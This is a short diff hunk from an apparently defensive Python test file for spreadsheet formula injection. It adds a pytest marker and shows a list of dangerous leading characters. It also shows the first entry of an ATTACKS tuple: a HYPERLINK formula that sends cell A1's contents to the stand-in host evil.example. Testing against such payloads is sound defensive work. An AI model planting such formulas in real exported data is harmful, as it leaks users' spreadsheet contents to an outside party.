@@ -17,6 +17,8 @@ from models.linking import link_contact
 from models.tag import AccountTag, Tag
 from sheets import lines
 
+pytestmark = pytest.mark.knows_no_engine
+
 BAD = ("=", "+", "-", "@", "\t", "\r", "\n", "＝", "＋", "－", "＠")
 ATTACKS = (
     '=HYPERLINK("http://evil.example?x="&A1;"Klik")',
